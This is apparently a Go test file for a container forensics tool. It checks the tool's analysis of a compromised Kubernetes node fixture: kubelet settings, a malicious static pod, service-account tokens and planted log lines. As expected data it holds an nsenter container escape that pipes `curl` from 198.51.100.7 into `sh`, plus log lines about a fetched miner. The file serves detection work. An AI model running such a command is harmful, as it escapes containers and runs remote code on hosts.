package kube_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/deadnode/deadnode/evidence"
	"github.com/deadnode/deadnode/forensics/containerd"
	"github.com/deadnode/deadnode/forensics/kube"
	"github.com/deadnode/deadnode/forensics/model"
	"github.com/deadnode/deadnode/internal/testfix"
)

// The compromised host's facts (testdata/kube-host/GROUND_TRUTH.md).
const (
	attackedUID   = "3f1c2a9e-8b7d-4e21-9c55-1a2b3c4d5e6f"
	attackedPod   = "shop/shop-frontend-7d9c8b6f5-x2k4q"
	attackedID    = "4b324cab25486a33822d1672700ac0cdad1d9d183089b7126b778bc3343c4007"
	jobUID        = "9b8e7d6c-5a4f-4b3a-8c2d-1e0f9a8b7c6d"
	jobPod        = "jobs/report-job-28374651-q7wzt"
	jobRuntimeID  = "f617888dbd39d44a9b551aa1d2562a8e3b6a4ea8b8706a48c3d608d6c52f183c"
	jobLinkID     = "94d3d1b6054fab6ae6c54fdc8143700c3b38f48fbbb5ba59c09be43a62c14a83"
	shopToken     = "/var/lib/kubelet/pods/3f1c2a9e-8b7d-4e21-9c55-1a2b3c4d5e6f/volumes/kubernetes.io~projected/kube-api-access-02817/token"
	jobToken      = "/var/lib/kubelet/pods/9b8e7d6c-5a4f-4b3a-8c2d-1e0f9a8b7c6d/volumes/kubernetes.io~projected/kube-api-access-c505f/token"
	scratchDir    = "/var/lib/kubelet/pods/3f1c2a9e-8b7d-4e21-9c55-1a2b3c4d5e6f/volumes/kubernetes.io~empty-dir/scratch"
	syncSHA256    = "1304b838da98ab1af297a69b7ebd7cae3caeed0aec3cd151136684a7c259859d"
	shopAppLog    = "/var/log/pods/shop_shop-frontend-7d9c8b6f5-x2k4q_3f1c2a9e-8b7d-4e21-9c55-1a2b3c4d5e6f/app/0.log"
	dropIn        = "/etc/systemd/system/kubelet.service.d/10-kubeadm.conf"
	kubeletConfig = "/var/lib/kubelet/config.yaml"
)

var archiveOnce struct {
	sync.Once
	src evidence.Source
	err error
}

// hostSources opens the host fixture as a directory and as its .tar.zst.
func hostSources(t *testing.T) []struct {
	name string
	src  evidence.Source
} {
	t.Helper()
	dir, err := evidence.OpenDir(testfix.KubeHost(t))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { dir.Close() })
	archiveOnce.Do(func() {
		archiveOnce.src, archiveOnce.err = evidence.OpenArchive(context.Background(), testfix.KubeHostArchive(t), nil)
	})
	if archiveOnce.err != nil {
		t.Fatal(archiveOnce.err)
	}
	return []struct {
		name string
		src  evidence.Source
	}{{"dir", dir}, {"tar.zst", archiveOnce.src}}
}

func TestKubeletOnHost(t *testing.T) {
	for _, hs := range hostSources(t) {
		t.Run(hs.name, func(t *testing.T) {
			r, err := kube.Kubelet(context.Background(), hs.src, kube.Options{})
			if err != nil {
				t.Fatal(err)
			}
			if len(r.Warnings) != 0 {
				t.Errorf("warnings: %q", r.Warnings)
			}
			// The unit and its drop-in.
			u := r.Unit
			if u.Fragment == nil || u.Fragment.Path != "/etc/systemd/system/kubelet.service" || !u.Enabled || u.WantedBy[0] != "multi-user.target" {
				t.Errorf("unit: %+v", u)
			}
			if len(u.DropIns) != 1 || u.DropIns[0].Path != dropIn {
				t.Errorf("drop-ins: %+v", u.DropIns)
			}
			want := []string{"/usr/bin/kubelet", "--kubeconfig=/etc/kubernetes/kubelet.conf", "--config=/var/lib/kubelet/config.yaml"}
			if strings.Join(u.ExecStart, " ") != strings.Join(want, " ") || u.ExecStartFrom != dropIn {
				t.Errorf("ExecStart %q from %s", u.ExecStart, u.ExecStartFrom)
			}
			c := r.Config
			if c.FlagsOnly || c.ConfigFile == nil || c.ConfigFile.Path != kubeletConfig || c.APIVersion != "kubelet.config.k8s.io/v1beta1" {
				t.Fatalf("config file: %+v", c.ConfigFile)
			}
			if c.ConfigFile.Mtime.UTC() != time.Date(2026, 11, 26, 21, 14, 5, 0, time.UTC) {
				t.Errorf("config mtime %s", c.ConfigFile.Mtime)
			}
			fileSet := func(name string, p kube.Provenance, key string) {
				t.Helper()
				if p.Origin != kube.OriginConfigFile || p.Source != kubeletConfig || p.Key != key || p.Before != nil || len(p.Shadowed) != 0 {
					t.Errorf("%s: provenance %+v, want %s in %s", name, p, key, kubeletConfig)
				}
			}
			if !c.AnonymousAuth.Value {
				t.Error("anonymous_auth false")
			}
			fileSet("anonymous_auth", c.AnonymousAuth.Provenance, "authentication.anonymous.enabled")
			if c.AuthorizationMode.Value != "Webhook" {
				t.Errorf("authorization_mode %q", c.AuthorizationMode.Value)
			}
			fileSet("authorization_mode", c.AuthorizationMode.Provenance, "authorization.mode")
			if c.ReadOnlyPort.Value != 10255 {
				t.Errorf("read_only_port %d", c.ReadOnlyPort.Value)
			}
			fileSet("read_only_port", c.ReadOnlyPort.Provenance, "readOnlyPort")
			if !c.WebhookAuthn.Value || c.ClientCAFile.Value != "/etc/kubernetes/pki/ca.crt" || c.StaticPodPath.Value != "/etc/kubernetes/manifests" ||
				!c.ProtectKernelDefaults.Value || !c.RotateCertificates.Value || !c.ServerTLSBootstrap.Value || c.CgroupDriver.Value != "systemd" {
				t.Errorf("config: %+v", c)
			}
			// Absent from the file: the kubelet's v1beta1 defaults.
			if c.Port.Value != 10250 || c.Port.Origin != kube.OriginDefault || c.Address.Value != "0.0.0.0" || !c.EnableDebuggingHandlers.Value ||
				c.TLSCertFile.Origin != kube.OriginUnset || c.PodLogsDir.Value != "/var/log/pods" {
				t.Errorf("defaults: port %+v address %+v tls %+v", c.Port, c.Address, c.TLSCertFile)
			}
			for _, f := range []struct {
				s   kube.Setting[string]
				val string
				v   string
			}{{c.Config, kubeletConfig, "KUBELET_CONFIG_ARGS"}, {c.Kubeconfig, "/etc/kubernetes/kubelet.conf", "KUBELET_KUBECONFIG_ARGS"}} {
				if f.s.Value != f.val || f.s.Origin != kube.OriginFlag || f.s.DefinedIn != dropIn || f.s.Var != f.v {
					t.Errorf("flag setting %+v", f.s)
				}
			}
			// The kubeconfig.
			if len(r.Kubeconfigs) != 1 {
				t.Fatalf("kubeconfigs: %+v", r.Kubeconfigs)
			}
			kc := r.Kubeconfigs[0]
			if kc.Path != "/etc/kubernetes/kubelet.conf" || kc.Role != "kubeconfig" || kc.CurrentContext != "default-context" ||
				len(kc.Clusters) != 1 || kc.Clusters[0].Server != "https://10.0.0.10:6443" || kc.Clusters[0].CA != "/etc/kubernetes/pki/ca.crt" ||
				kc.Clusters[0].CACert == nil || kc.Clusters[0].CACert.Subject != "CN=kubernetes" || !kc.Clusters[0].CACert.IsCA {
				t.Errorf("kubeconfig clusters: %+v", kc.Clusters)
			}
			if len(kc.Users) != 1 || kc.Users[0].Credential != "client_cert_file" ||
				kc.Users[0].ClientCertificate != "/var/lib/kubelet/pki/kubelet-client-current.pem" ||
				kc.Users[0].ClientKey != "/var/lib/kubelet/pki/kubelet-client-current.pem" || kc.Users[0].ClientCertFile.Exists {
				t.Errorf("kubeconfig users: %+v", kc.Users)
			}
			checkStaticPods(t, r.StaticPods)
			checkPods(t, r.Pods)
			checkFindings(t, r.Findings)
			// Never a token whole in the output.
			js, err := json.Marshal(r)
			if err != nil {
				t.Fatal(err)
			}
			for _, p := range []string{shopToken, jobToken} {
				tok, err := evidence.ReadFile(hs.src, p, 1<<20)
				if err != nil {
					t.Fatal(err)
				}
				for _, seg := range bytes.Split(bytes.TrimSpace(tok), []byte(".")) {
					if bytes.Contains(js, seg) {
						t.Errorf("the report holds a segment of %s", p)
					}
				}
			}
		})
	}
}

func checkStaticPods(t *testing.T, sp []kube.StaticPod) {
	t.Helper()
	if len(sp) != 2 {
		t.Fatalf("%d static pods", len(sp))
	}
	ls, npd := sp[0], sp[1]
	if ls.Path != "/etc/kubernetes/manifests/log-shipper.yaml" || ls.Name != "log-shipper" || ls.Namespace != "kube-system" ||
		strings.Join(ls.Images, ",") != "docker.io/logshipr/agent:0.9" || !ls.Privileged || !ls.HostPID || !ls.HostNetwork || !ls.HostIPC ||
		len(ls.HostPathMounts) != 1 || ls.HostPathMounts[0].Path != "/" || ls.HostPathMounts[0].MountPath != "/host" || ls.HostPathMounts[0].ReadOnly ||
		ls.KnownComponent != "" || ls.Severity != model.SeverityCritical || !ls.Configured || ls.IgnoredByKubelet {
		t.Errorf("log-shipper: %+v", ls)
	}
	wantCmd := []string{"sh", "-c", `nsenter -t 1 -m -u -i -n -- sh -c "curl -s http://198.51.100.7/a | sh"`}
	if strings.Join(ls.Command, "\x00") != strings.Join(wantCmd, "\x00") {
		t.Errorf("log-shipper command %q", ls.Command)
	}
	if ls.Mtime.UTC() != time.Date(2026, 11, 26, 21, 14, 5, 0, time.UTC) {
		t.Errorf("log-shipper mtime %s", ls.Mtime)
	}
	if npd.Path != "/etc/kubernetes/manifests/node-problem-detector.yaml" || npd.Name != "node-problem-detector" ||
		strings.Join(npd.Images, ",") != "registry.k8s.io/node-problem-detector/node-problem-detector:v0.8.19" ||
		npd.Privileged || npd.HostPID || !npd.HostNetwork || npd.HostIPC || len(npd.HostPathMounts) != 1 || npd.HostPathMounts[0].Path != "/var/log/" ||
		!npd.HostPathMounts[0].ReadOnly || npd.KnownComponent != "node-problem-detector" || npd.Severity != model.SeverityInfo {
		t.Errorf("node-problem-detector: %+v", npd)
	}
	if npd.Mtime.UTC() != time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC) {
		t.Errorf("npd mtime %s", npd.Mtime)
	}
}

func checkPods(t *testing.T, pods []kube.PodDir) {
	t.Helper()
	if len(pods) != 2 {
		t.Fatalf("%d pods", len(pods))
	}
	byUID := map[string]kube.PodDir{}
	for _, p := range pods {
		byUID[p.UID] = p
	}
	iat, exp := time.Unix(1795748400, 0).UTC(), time.Unix(1827284400, 0).UTC()
	for _, w := range []struct{ uid, pod, token, sub, sa string }{
		{attackedUID, attackedPod, shopToken, "system:serviceaccount:shop:shop-api", "shop-api"},
		{jobUID, jobPod, jobToken, "system:serviceaccount:jobs:default", "default"},
	} {
		p, ok := byUID[w.uid]
		if !ok {
			t.Fatalf("pod %s missing", w.uid)
		}
		if p.Namespace+"/"+p.Name != w.pod || p.NameFrom != "log_dir" {
			t.Errorf("pod %s named %s/%s from %s", w.uid, p.Namespace, p.Name, p.NameFrom)
		}
		if len(p.Tokens) != 1 {
			t.Fatalf("pod %s tokens %+v", w.uid, p.Tokens)
		}
		tk := p.Tokens[0]
		ns := strings.Split(w.pod, "/")[0]
		if tk.Path != w.token || tk.Claims.Subject != w.sub || tk.Header.Kid != "k8s-sa-key-1" || tk.Header.Alg != "RS256" ||
			!tk.Claims.IssuedAt.Equal(iat) || !tk.Claims.NotBefore.Equal(iat) || !tk.Claims.Expires.Equal(exp) ||
			tk.Claims.Issuer != "https://kubernetes.default.svc.cluster.local" || tk.Claims.Namespace != ns || tk.Claims.ServiceAccount != w.sa ||
			tk.Claims.PodUID != w.uid || tk.Claims.PodName != strings.Split(w.pod, "/")[1] || tk.SignatureBytes != 256 || len(tk.TokenSHA256) != 64 {
			t.Errorf("token: %+v", tk)
		}
		var proj *kube.Volume
		for i := range p.Volumes {
			if p.Volumes[i].Kind == kube.VolProjected {
				proj = &p.Volumes[i]
			}
		}
		if proj == nil || proj.Namespace != ns || strings.Join(proj.Entries, ",") != "ca.crt,namespace,token" || proj.Files != 3 {
			t.Errorf("projected volume %+v", proj)
		}
		if p.EtcHosts == nil || p.EtcHosts.Size != 20 || len(p.Containers) != 1 || len(p.Containers[0].Starts) != 1 {
			t.Errorf("pod dir %+v", p)
		}
	}
	shop := byUID[attackedUID]
	var scratch *kube.Volume
	for i := range shop.Volumes {
		if shop.Volumes[i].Name == "scratch" {
			scratch = &shop.Volumes[i]
		}
	}
	if scratch == nil || scratch.Plugin != kube.PluginEmptyDir || !scratch.Writable || scratch.Files != 1 || scratch.Bytes != 102 || scratch.Dir.Path != scratchDir {
		t.Errorf("scratch volume %+v", scratch)
	}
	if shop.Containers[0].Name != "app" {
		t.Errorf("containers %+v", shop.Containers)
	}
}

// checkFindings: exactly the compromise above info, and the benign facts
// at info.
func checkFindings(t *testing.T, fs []model.Finding) {
	t.Helper()
	type key struct {
		sev            model.Severity
		analyzer, kind string
		path           string
	}
	want := []key{
		{model.SeverityCritical, "static_pod", "unknown_static_pod", "/etc/kubernetes/manifests/log-shipper.yaml"},
		{model.SeverityHigh, "kubelet", "anonymous_auth", kubeletConfig},
		{model.SeverityMedium, "kubelet", "read_only_port", kubeletConfig},
		{model.SeverityInfo, "static_pod", "static_pod", "/etc/kubernetes/manifests/node-problem-detector.yaml"},
		{model.SeverityInfo, "kube_pod", "service_account_token", shopToken},
		{model.SeverityInfo, "kube_pod", "service_account_token", jobToken},
	}
	var got []key
	for _, f := range fs {
		got = append(got, key{f.Severity, f.Analyzer, f.Kind, f.Path})
		if f.Why == "" || f.Summary == "" {
			t.Errorf("finding without why/summary: %+v", f)
		}
	}
	if len(got) != len(want) {
		t.Fatalf("findings:\n got %v\nwant %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("finding %d: got %v, want %v", i, got[i], want[i])
		}
	}
}

// runtimeContainers reads the host's containerd records.
func runtimeContainers(t *testing.T, src evidence.Source) []model.Container {
	t.Helper()
	st, err := containerd.Open(src, nil)
	if err != nil {
		t.Fatal(err)
	}
	return st.Containers
}

func findContainer(t *testing.T, cs []model.Container, id string) *model.Container {
	t.Helper()
	for i := range cs {
		if cs[i].ID == id {
			return &cs[i]
		}
	}
	t.Fatalf("container %s not found", id)
	return nil
}

func TestMountsOnHost(t *testing.T) {
	for _, hs := range hostSources(t) {
		t.Run(hs.name, func(t *testing.T) {
			cs := runtimeContainers(t, hs.src)
			app := findContainer(t, cs, attackedID)
			ms, warns := kube.ContainerMounts(hs.src, app, kube.MountOptions{})
			if len(warns) != 0 {
				t.Errorf("warnings %q", warns)
			}
			if len(ms) != 1 {
				t.Fatalf("mounts %+v", ms)
			}
			m := ms[0]
			if m.ContainerPath != nil || m.Origin != "volume:scratch" || m.Volume != "scratch" || m.Plugin != kube.PluginEmptyDir ||
				m.EvidencePath != scratchDir || !m.Writable || m.FromSpec || m.ContainerID != attackedID || m.PodUID != attackedUID {
				t.Errorf("scratch mount %+v", m)
			}
			if m.ContainerPathOf(".cache/sync.sh") != "" {
				t.Error("a container path for an attributed volume")
			}
			var files []string
			for vf, err := range kube.VolumeFiles(hs.src, m) {
				if err != nil {
					t.Fatal(err)
				}
				files = append(files, vf.RelPath)
				if vf.RelPath == ".cache/sync.sh" {
					if vf.EvidencePath != scratchDir+"/.cache/sync.sh" || vf.Stat.Size != 102 || vf.Stat.Mode.Perm() != 0o755 ||
						vf.Stat.Mtime.UTC() != time.Date(2026, 11, 26, 21, 14, 5, 0, time.UTC) {
						t.Errorf("sync.sh %+v %+v", vf, vf.Stat)
					}
					f, err := hs.src.Open(strings.TrimPrefix(vf.EvidencePath, "/"))
					if err != nil {
						t.Fatal(err)
					}
					h := sha256.New()
					io.Copy(h, f)
					f.Close()
					if hex.EncodeToString(h.Sum(nil)) != syncSHA256 {
						t.Errorf("sync.sh sha256 %x", h.Sum(nil))
					}
				}
			}
			if strings.Join(files, ",") != ".cache,.cache/sync.sh" {
				t.Errorf("volume files %q", files)
			}
			// The other pod has no emptyDir; sandboxes get nothing.
			job := findContainer(t, cs, jobRuntimeID)
			if ms, _ := kube.ContainerMounts(hs.src, job, kube.MountOptions{}); len(ms) != 0 {
				t.Errorf("job mounts %+v", ms)
			}
			byID, _ := kube.PodMounts(hs.src, cs, kube.MountOptions{})
			if len(byID[attackedID]) != 1 || len(byID[jobRuntimeID]) != 0 {
				t.Errorf("pod mounts %+v", byID)
			}
			if _, ok := byID["6b5e31bbf0ef256672a4b8c7bd59379ebee1b390723bab836bf8c514f0209721"]; ok {
				t.Error("a sandbox has mounts")
			}
			// With the runtime's own files: /etc/hosts from the sandbox dir,
			// found although the spec names it under the forge's root.
			ms, _ = kube.ContainerMounts(hs.src, app, kube.MountOptions{IncludeRuntime: true})
			var hosts *kube.Mount
			for i := range ms {
				if ms[i].ContainerPath != nil && *ms[i].ContainerPath == "/etc/hosts" {
					hosts = &ms[i]
				}
			}
			sandbox := "/var/lib/containerd/io.containerd.grpc.v1.cri/sandboxes/6b5e31bbf0ef256672a4b8c7bd59379ebee1b390723bab836bf8c514f0209721/hosts"
			if hosts == nil || hosts.Kind != kube.MountRuntime || hosts.Origin != "runtime:hosts" || hosts.EvidencePath != sandbox || !hosts.Exists ||
				hosts.SpecSource != "/tmp/forge/node"+sandbox || hosts.Writable {
				t.Errorf("/etc/hosts mount %+v", hosts)
			}
			if len(ms) != 5 { // hostname, hosts, resolv.conf, /dev/shm, scratch
				t.Errorf("%d mounts with the runtime's: %+v", len(ms), ms)
			}
		})
	}
}

type logKey struct {
	time, stream, text, pod, container, id, path string
	line                                         int64
}

func collectLogs(t *testing.T, src evidence.Source, f kube.LogFilter) ([]kube.LogLine, []error) {
	t.Helper()
	var out []kube.LogLine
	var errs []error
	for l, err := range kube.Logs(context.Background(), src, f) {
		if err != nil {
			errs = append(errs, err)
			continue
		}
		out = append(out, l)
	}
	return out, errs
}

func TestLogsOnHost(t *testing.T) {
	planted := []logKey{
		{"2026-11-26T21:13:58.120004511Z", "stdout", "fetched /tmp/.x/miner from 198.51.100.7", attackedPod, "app", attackedID, shopAppLog, 1},
		{"2026-11-26T21:14:02.881230017Z", "stderr", "sh: can't create /proc/sys/kernel/core_pattern: Read-only file system", attackedPod, "app", attackedID, shopAppLog, 2},
	}
	key := func(l kube.LogLine) logKey {
		return logKey{l.Time.UTC().Format(time.RFC3339Nano), l.Stream, l.Text, l.Pod, l.Container, l.ContainerID, l.EvidencePath, l.Line}
	}
	for _, hs := range hostSources(t) {
		t.Run(hs.name, func(t *testing.T) {
			for _, f := range []kube.LogFilter{{Pod: attackedPod}, {Container: attackedID[:12]}, {Container: attackedPod + "/app"}, {PodUID: attackedUID},
				{Container: "app"}, {Grep: mustRE(t, `miner|core_pattern`)}} {
				lines, errs := collectLogs(t, hs.src, f)
				if len(errs) != 0 {
					t.Errorf("%+v: %v", f, errs)
				}
				if len(lines) != 2 {
					t.Fatalf("%+v: %d lines: %+v", f, len(lines), lines)
				}
				for i, l := range lines {
					if key(l) != planted[i] || *l.Attempt != 0 || l.Runtime != kube.RuntimeCRI || l.Format != kube.FormatCRI ||
						l.PodUID != attackedUID || l.Partial || l.Truncated || l.Parts != 1 {
						t.Errorf("line %d: %+v", i, l)
					}
				}
			}
			// Everything, merged by time; the job's container id from its link.
			lines, errs := collectLogs(t, hs.src, kube.LogFilter{})
			if len(errs) != 0 || len(lines) != 4 {
				t.Fatalf("%d lines, errors %v", len(lines), errs)
			}
			for i := 1; i < len(lines); i++ {
				if lines[i].Time.Before(lines[i-1].Time.Time) {
					t.Errorf("not merged by time at %d", i)
				}
			}
			if lines[2].Text != "generating report" || lines[3].Text != "done" || lines[2].ContainerID != jobLinkID || lines[2].Pod != jobPod {
				t.Errorf("job lines %+v %+v", lines[2], lines[3])
			}
			// since/until select the two planted lines only.
			lines, _ = collectLogs(t, hs.src, kube.LogFilter{Since: time.Date(2026, 11, 26, 21, 0, 0, 0, time.UTC), Until: time.Date(2026, 11, 26, 22, 0, 0, 0, time.UTC)})
			if len(lines) != 2 || key(lines[0]) != planted[0] {
				t.Errorf("since/until: %+v", lines)
			}
			// Joined with the runtime: the runtime's name and, for the job,
			// its record's id (the link names another, which is warned about).
			lines, errs = collectLogs(t, hs.src, kube.LogFilter{Containers: runtimeContainers(t, hs.src)})
			if len(lines) != 4 || lines[0].Runtime != model.RuntimeContainerd || lines[0].ContainerID != attackedID || lines[2].ContainerID != jobRuntimeID {
				t.Errorf("joined: %+v", lines)
			}
			if len(errs) != 1 || !strings.Contains(errs[0].Error(), jobLinkID) || !strings.Contains(errs[0].Error(), jobRuntimeID) {
				t.Errorf("join warnings %v", errs)
			}
			// Every line is a timeline event.
			n := 0
			for e, err := range kube.LogEvents(context.Background(), hs.src, kube.LogFilter{Pod: attackedPod}) {
				if err != nil {
					t.Fatal(err)
				}
				if e.Source != kube.EventLog || e.What != "log_line" || e.ContainerID != attackedID || !e.Time.Equal(time.Date(2026, 11, 26, 21, 13, 58, 120004511, time.UTC)) && n == 0 {
					t.Errorf("event %+v", e)
				}
				n++
			}
			if n != 2 {
				t.Errorf("%d log events", n)
			}
			fs, warns := kube.LogFindings(context.Background(), hs.src, kube.LogFilter{})
			if len(fs) != 0 || len(warns) != 0 {
				t.Errorf("log findings %+v %q", fs, warns)
			}
		})
	}
}

// Pod directories named from the runtime's pods when given.
func TestPodsNamedByRuntime(t *testing.T) {
	for _, hs := range hostSources(t) {
		st, err := containerd.Open(hs.src, nil)
		if err != nil {
			t.Fatal(err)
		}
		pods, _ := kube.Pods(context.Background(), hs.src, kube.PodOptions{Runtime: st.Pods, UID: attackedUID})
		if len(pods) != 1 || pods[0].NameFrom != "runtime" || pods[0].Namespace+"/"+pods[0].Name != attackedPod || pods[0].Tokens[0].Pod != attackedPod {
			t.Errorf("%s: %+v", hs.name, pods)
		}
	}
}

func TestHostEvents(t *testing.T) {
	hs := hostSources(t)[0]
	r, err := kube.Kubelet(context.Background(), hs.src, kube.Options{})
	if err != nil {
		t.Fatal(err)
	}
	ev := r.Events()
	has := func(src, what, path string, at time.Time) bool {
		for _, e := range ev {
			if e.Source == src && e.What == what && e.Path == path && e.Time.Equal(at) {
				return true
			}
		}
		return false
	}
	ta := time.Date(2026, 11, 26, 21, 14, 5, 0, time.UTC)
	for _, w := range []struct {
		src, what, path string
		at              time.Time
	}{
		{kube.EventKubelet, "mtime", kubeletConfig, ta},
		{kube.EventStaticPod, "mtime", "/etc/kubernetes/manifests/log-shipper.yaml", ta},
		{kube.EventKubelet, "mtime", "/etc/systemd/system/kubelet.service", time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)},
		{kube.EventToken, "iat", shopToken, time.Unix(1795748400, 0)},
		{kube.EventToken, "exp", jobToken, time.Unix(1827284400, 0)},
	} {
		if !has(w.src, w.what, w.path, w.at) {
			t.Errorf("no %s %s event for %s at %s", w.src, w.what, w.path, w.at)
		}
	}
}

// The node collection alone (one top-level node/ dir) has pod logs but no
// kubelet.
func TestNodeCollection(t *testing.T) {
	a, err := evidence.OpenArchive(context.Background(), testfix.NodeArchive(t), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	src, err := evidence.Sub(a, "node")
	if err != nil {
		t.Fatal(err)
	}
	r, err := kube.Kubelet(context.Background(), src, kube.Options{})
	if err != kube.ErrNoKubelet || len(r.Findings) != 0 {
		t.Errorf("kubelet on the node collection: %v, %+v", err, r.Findings)
	}
	// The attacked container's log is empty there (the planted lines are
	// the host fixture's); the job's two lines.
	lines, errs := collectLogs(t, src, kube.LogFilter{})
	if len(errs) != 0 || len(lines) != 2 {
		t.Fatalf("%d lines %v", len(lines), errs)
	}
	if lines[0].Text != "generating report" || lines[0].ContainerID != "" || lines[0].Pod != jobPod || lines[0].Runtime != kube.RuntimeCRI ||
		!lines[0].Time.Equal(time.Date(2026, 11, 27, 2, 30, 17, 312554391, time.UTC)) {
		t.Errorf("line %+v", lines[0])
	}
	lines, _ = collectLogs(t, src, kube.LogFilter{Containers: runtimeContainers(t, src)})
	if len(lines) != 2 || lines[1].Text != "done" || lines[1].ContainerID != jobRuntimeID || lines[1].Runtime != model.RuntimeContainerd {
		t.Errorf("joined lines %+v", lines)
	}
}

// Real Docker json-file and Podman k8s-file logs (runtimes-c1).
func TestRealRuntimeLogs(t *testing.T) {
	root := t.TempDir()
	for _, d := range []struct{ from, to string }{{"docker", "var/lib/docker"}, {"podman", "var/lib/containers/storage"}} {
		if err := os.CopyFS(filepath.Join(root, d.to), os.DirFS(filepath.Join("testdata", "runtimes-c1", d.from))); err != nil {
			t.Fatal(err)
		}
	}
	src, err := evidence.OpenDir(root)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	lines, errs := collectLogs(t, src, kube.LogFilter{})
	if len(errs) != 0 {
		t.Fatal(errs)
	}
	// What `docker logs` printed, stream by stream.
	for _, c := range []struct{ id, name, expect string }{
		{"f8a96d9431afcdcda37c334276774b7f696bc5c5c20c89182ad28a3f450eaed5", "web", "logs-attacked"},
		{"cea7943353fc7725d626fedcabd42b1ad24c3ef83f66e62bf700ff40ac2dfeda", "report-job", "logs-exited"},
	} {
		got := map[string]string{}
		for _, l := range lines {
			if l.ContainerID == c.id {
				got[l.Stream] += l.Text + "\n"
				if l.Container != c.name || l.Runtime != model.RuntimeDocker || l.Format != kube.FormatDockerJSON || l.Attempt != nil {
					t.Errorf("docker line %+v", l)
				}
			}
		}
		for _, s := range []string{"stdout", "stderr"} {
			want, err := os.ReadFile(filepath.Join("testdata", "runtimes-c1", "expected", c.expect+"."+s))
			if err != nil {
				t.Fatal(err)
			}
			if got[s] != string(want) {
				t.Errorf("%s %s: got %q, docker logs printed %q", c.id[:12], s, got[s], want)
			}
		}
	}
	var web *kube.LogLine
	for i := range lines {
		if lines[i].Text == "listening on :8080" && lines[i].Runtime == model.RuntimeDocker {
			web = &lines[i]
		}
	}
	if web == nil || web.Pod != "shop/web-7d9f8b6c5-x2k4q" || web.PodUID != "3f6b2a10-8c4d-4e7f-9a15-b2c7d8e9f012" ||
		!web.Time.Equal(time.Date(2026, 11, 27, 3, 50, 58, 119540615, time.UTC)) || web.Stream != "stderr" {
		t.Errorf("web line %+v", web)
	}
	// Podman's k8s-file logs (+00:00 offsets).
	var pod []kube.LogLine
	for _, l := range lines {
		if l.Runtime == model.RuntimePodman {
			pod = append(pod, l)
		}
	}
	if len(pod) != 4 || pod[0].Text != "web starting pid 1" || pod[0].ContainerID != "015674db7f57680cac399505aa6e903f2837396a880b3e6bfa0ce13193fb8672" ||
		!pod[0].Time.Equal(time.Date(2026, 11, 27, 3, 51, 6, 820656746, time.UTC)) {
		t.Errorf("podman lines %+v", pod)
	}
	if len(lines) != 8 {
		t.Errorf("%d lines", len(lines))
	}
	for i := 1; i < len(lines); i++ {
		if lines[i].Time.Before(lines[i-1].Time.Time) {
			t.Errorf("not merged by time at %d", i)
		}
	}
}

func mustRE(t *testing.T, s string) *regexp.Regexp {
	t.Helper()
	re, err := regexp.Compile(s)
	if err != nil {
		t.Fatal(err)
	}
	return re
}
